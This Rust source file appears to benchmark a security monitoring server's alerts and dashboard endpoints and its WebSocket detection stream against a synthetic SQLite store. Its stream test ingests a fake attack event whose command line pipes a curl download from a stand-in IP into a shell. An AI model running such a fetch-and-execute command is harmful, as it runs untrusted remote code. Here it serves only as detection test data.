//! `watchpost bench api`: the API under load with a realistic store behind it. A fresh
//! SQLite store is filled (events spread over 30 days, detections, alerts in every
//! status), the real server is started on it as a separate process, and a closed-loop
//! load from this process measures `GET /api/v1/alerts` (first page, filtered) and
//! `GET /api/v1/dashboard/summary`; then WebSocket clients open the live stream and the
//! time until every one has an ingested attack's detection is measured.

use anyhow::Context;
use chrono::{Duration, Utc};
use clap::Args;
use serde_json::json;
use std::collections::BTreeMap;
use std::process::{ExitCode, Stdio};
use std::time::Instant;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use watchpost_core::{Alert, AlertStatus, Detection, Severity};

#[derive(Args)]
pub struct ApiBenchArgs {
    /// Events stored before the load (spread over 30 days).
    #[arg(long, default_value_t = 1_000_000)]
    pub events: usize,
    /// Alerts stored (40 % firing, 20 % acknowledged, the rest resolved).
    #[arg(long, default_value_t = 50_000)]
    pub alerts: usize,
    /// Detections stored (over the same 30 days).
    #[arg(long, default_value_t = 100_000)]
    pub detections: usize,
    /// Seconds of load per endpoint.
    #[arg(long, default_value_t = 10)]
    pub seconds: u64,
    /// Requests in flight at once.
    #[arg(long, default_value_t = 4)]
    pub concurrency: usize,
    /// WebSocket clients on the live stream.
    #[arg(long, default_value_t = 100)]
    pub stream_clients: usize,
    #[arg(long)]
    pub json: bool,
    /// Fill and keep the store in this folder (to look at it afterwards) rather than a
    /// temporary one.
    #[arg(long)]
    pub keep: Option<std::path::PathBuf>,
    /// Exit 1 when `GET /api/v1/alerts` is slower than this at p99.
    #[arg(long)]
    pub max_alerts_p99_ms: Option<f64>,
    /// Exit 1 when `GET /api/v1/dashboard/summary` is slower than this at p99.
    #[arg(long)]
    pub max_summary_p99_ms: Option<f64>,
}

/// Latencies of one endpoint under load.
struct Load {
    requests: usize,
    errors: usize,
    p50_ms: f64,
    p99_ms: f64,
    per_second: f64,
}

pub async fn api(args: ApiBenchArgs) -> anyhow::Result<ExitCode> {
    let dir = tempfile::tempdir().context("making a data directory")?;
    if let Some(keep) = &args.keep {
        std::fs::create_dir_all(keep)?;
    }
    let dir_path = args
        .keep
        .clone()
        .unwrap_or_else(|| dir.path().to_path_buf());
    let fill_started = Instant::now();
    fill(&dir_path, &args).await?;
    let fill_seconds = fill_started.elapsed().as_secs_f64();
    eprintln!("filled the store in {fill_seconds:.1} s");

    let mut server = tokio::process::Command::new(std::env::current_exe()?)
        .args(["--log-format", "plain", "serve", "--port", "0"])
        .env_remove("WATCHPOST_CONFIG")
        .env("WATCHPOST_STORAGE__DATA_DIR", &dir_path)
        // The load comes from one key: the per-key limit would measure itself.
        .env("WATCHPOST_API__ENABLE_RATE_LIMITING", "false")
        .env("WATCHPOST_MONITORING__PROCESS_EXECS", "false")
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .context("starting the server")?;
    let mut lines = BufReader::new(server.stderr.take().context("server stderr")?).lines();
    let base = loop {
        let line = lines
            .next_line()
            .await?
            .context("the server stopped before it listened")?;
        if let Some(at) = line.find("listening on http://") {
            let addr = line[at + "listening on ".len()..]
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_string();
            break addr;
        }
    };
    tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
    let key = std::fs::read_to_string(dir_path.join("admin-api-key"))?
        .trim()
        .to_string();
    let http = watchpost_notify::http::client(std::time::Duration::from_secs(30))
        .map_err(anyhow::Error::msg)?;

    let alerts = load(
        &http,
        &format!("{base}/api/v1/alerts?status=firing&min_severity=high&limit=50"),
        &key,
        &args,
    )
    .await;
    let summary = load(
        &http,
        &format!("{base}/api/v1/dashboard/summary?window=24h"),
        &key,
        &args,
    )
    .await;
    let (delivered, stream_ms) = stream(&http, &base, &key, args.stream_clients).await?;
    let _ = server.kill().await;

    let report = |name: &str, l: &Load| {
        println!(
            "{name:<28} {} requests ({} errors), {:.0}/s, p50 {:.2} ms, p99 {:.2} ms",
            l.requests, l.errors, l.per_second, l.p50_ms, l.p99_ms
        )
    };
    println!(
        "store: {} events, {} detections, {} alerts (filled in {fill_seconds:.1} s); {} in flight",
        args.events, args.detections, args.alerts, args.concurrency
    );
    report("GET /api/v1/alerts", &alerts);
    report("GET /api/v1/dashboard/summary", &summary);
    println!(
        "stream: {delivered} of {} clients had the detection, the last after {stream_ms:.0} ms",
        args.stream_clients
    );
    if args.json {
        let figures = |l: &Load| {
            json!({"requests": l.requests, "errors": l.errors, "per_second": l.per_second,
                   "p50_ms": l.p50_ms, "p99_ms": l.p99_ms})
        };
        println!(
            "{}",
            json!({"events": args.events, "detections": args.detections, "alerts": args.alerts,
                   "alerts_list": figures(&alerts), "dashboard_summary": figures(&summary),
                   "stream": {"clients": args.stream_clients, "delivered": delivered, "last_ms": stream_ms}})
        );
    }
    let mut ok = delivered == args.stream_clients && alerts.errors == 0 && summary.errors == 0;
    for (limit, load, name) in [
        (args.max_alerts_p99_ms, &alerts, "GET /api/v1/alerts"),
        (
            args.max_summary_p99_ms,
            &summary,
            "GET /api/v1/dashboard/summary",
        ),
    ] {
        if let Some(limit) = limit
            && load.p99_ms > limit
        {
            eprintln!("{name}: p99 {:.2} ms is above {limit} ms", load.p99_ms);
            ok = false;
        }
    }
    Ok(if ok {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    })
}

/// Fills a SQLite store in `dir` as the server will find it.
async fn fill(dir: &std::path::Path, args: &ApiBenchArgs) -> anyhow::Result<()> {
    let store =
        watchpost_store::open(&format!("sqlite://{}", dir.join("watchpost.db").display())).await?;
    let now = Utc::now();
    let span_ms = Duration::days(30).num_milliseconds();
    let at =
        |i: usize, n: usize| now - Duration::milliseconds(span_ms * i as i64 / n.max(1) as i64);
    const BATCH: usize = 5000;
    for start in (0..args.events).step_by(BATCH) {
        let batch: Vec<_> = (start..(start + BATCH).min(args.events))
            .map(|i| {
                let mut e = crate::bench::synthetic_event(i);
                e.timestamp = at(i, args.events);
                e
            })
            .collect();
        store.insert_events(&batch).await?;
    }
    let tactics = [
        "TA0002", "TA0003", "TA0004", "TA0005", "TA0006", "TA0007", "TA0011",
    ];
    let detection = |i: usize, when| {
        let rule = i % 60;
        let mut d = Detection::new(
            &format!("bench-rule-{rule:02}"),
            &format!("Bench rule {rule}"),
            Severity::ALL[i % 5],
            "sigma",
        );
        d.timestamp = when;
        d.host = Some(format!("host-{:02}", i % 40));
        d.attack.tactics = vec![tactics[rule % tactics.len()].into()];
        d.attack.techniques = vec![format!("T{}", 1000 + rule)];
        d
    };
    for start in (0..args.detections).step_by(BATCH) {
        let batch: Vec<Detection> = (start..(start + BATCH).min(args.detections))
            .map(|i| detection(i, at(i, args.detections)))
            .collect();
        store.insert_detections(&batch).await?;
    }
    for start in (0..args.alerts).step_by(1000) {
        let batch: Vec<Alert> = (start..(start + 1000).min(args.alerts))
            .map(|i| {
                let mut alert = Alert::from_detection(
                    &detection(i, at(i, args.alerts)),
                    BTreeMap::from([("n".to_string(), i.to_string())]),
                );
                // Status and severity (`i % 5`) vary independently.
                alert.status = match (i / 5) % 5 {
                    0 | 1 => AlertStatus::Firing,
                    2 => AlertStatus::Acknowledged,
                    _ => AlertStatus::Resolved,
                };
                alert
            })
            .collect();
        store.upsert_alerts(&batch).await?;
    }
    Ok(())
}

/// `concurrency` loops GETting `url` for the configured seconds.
async fn load(http: &reqwest::Client, url: &str, key: &str, args: &ApiBenchArgs) -> Load {
    let deadline = Instant::now() + std::time::Duration::from_secs(args.seconds);
    let started = Instant::now();
    let mut workers = tokio::task::JoinSet::new();
    for _ in 0..args.concurrency.max(1) {
        let (http, url, key) = (http.clone(), url.to_string(), key.to_string());
        workers.spawn(async move {
            let mut latencies = Vec::new();
            let mut errors = 0;
            while Instant::now() < deadline {
                let sent = Instant::now();
                let ok = match http.get(&url).header("x-api-key", &key).send().await {
                    Ok(r) if r.status().is_success() => r.bytes().await.is_ok(),
                    _ => false,
                };
                latencies.push(sent.elapsed().as_secs_f64() * 1000.0);
                errors += usize::from(!ok);
            }
            (latencies, errors)
        });
    }
    let mut all = Vec::new();
    let mut errors = 0;
    while let Some(Ok((latencies, e))) = workers.join_next().await {
        all.extend(latencies);
        errors += e;
    }
    all.sort_by(f64::total_cmp);
    let pct = |p: f64| {
        all.get(((all.len() as f64 * p) as usize).min(all.len().saturating_sub(1)))
            .copied()
            .unwrap_or(0.0)
    };
    Load {
        requests: all.len(),
        errors,
        p50_ms: pct(0.50),
        p99_ms: pct(0.99),
        per_second: all.len() as f64 / started.elapsed().as_secs_f64(),
    }
}

/// Opens `clients` streams, ingests one attack, and waits for every client to have its
/// detection: how many did, and when the last one did.
async fn stream(
    http: &reqwest::Client,
    base: &str,
    key: &str,
    clients: usize,
) -> anyhow::Result<(usize, f64)> {
    let addr = base.trim_start_matches("http://").to_string();
    let mut sockets = Vec::with_capacity(clients);
    for _ in 0..clients {
        let mut tcp = tokio::net::TcpStream::connect(&addr).await?;
        let request = format!(
            "GET /api/v1/stream?topics=detections HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\n\
             Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
             X-API-Key: {key}\r\n\r\n"
        );
        tcp.write_all(request.as_bytes()).await?;
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            head.push(tcp.read_u8().await?);
        }
        anyhow::ensure!(
            head.starts_with(b"HTTP/1.1 101"),
            "the stream refused: {}",
            String::from_utf8_lossy(&head)
        );
        sockets.push(tcp);
    }
    let sent = Instant::now();
    http.post(format!("{base}/api/v1/events"))
        .header("x-api-key", key)
        .json(&json!([{"host": {"name": "bench-stream"}, "event": {"category": ["process"], "action": "exec"},
                       "process": {"command_line": "sh -c 'curl -s http://203.0.113.7/x | sh'"}}]))
        .send()
        .await?
        .error_for_status()?;
    let mut waiting = tokio::task::JoinSet::new();
    for mut tcp in sockets {
        waiting.spawn(async move {
            let deadline = std::time::Duration::from_secs(10);
            tokio::time::timeout(deadline, async {
                loop {
                    let mut head = [0u8; 2];
                    tcp.read_exact(&mut head).await?;
                    let len = match head[1] & 0x7f {
                        126 => u64::from(tcp.read_u16().await?),
                        127 => tcp.read_u64().await?,
                        n => u64::from(n),
                    };
                    let mut payload = vec![0u8; len as usize];
                    tcp.read_exact(&mut payload).await?;
                    if head[0] & 0x0f == 0x1
                        && serde_json::from_slice::<serde_json::Value>(&payload)
                            .is_ok_and(|m| m["topic"] == "detections")
                    {
                        return Ok::<_, std::io::Error>(());
                    }
                }
            })
            .await
            .ok()
            .and_then(Result::ok)
            .map(|()| sent.elapsed())
        });
    }
    let (mut delivered, mut last) = (0, std::time::Duration::ZERO);
    while let Some(Ok(done)) = waiting.join_next().await {
        if let Some(after) = done {
            delivered += 1;
            last = last.max(after);
        }
    }
    Ok((delivered, last.as_secs_f64() * 1000.0))
}
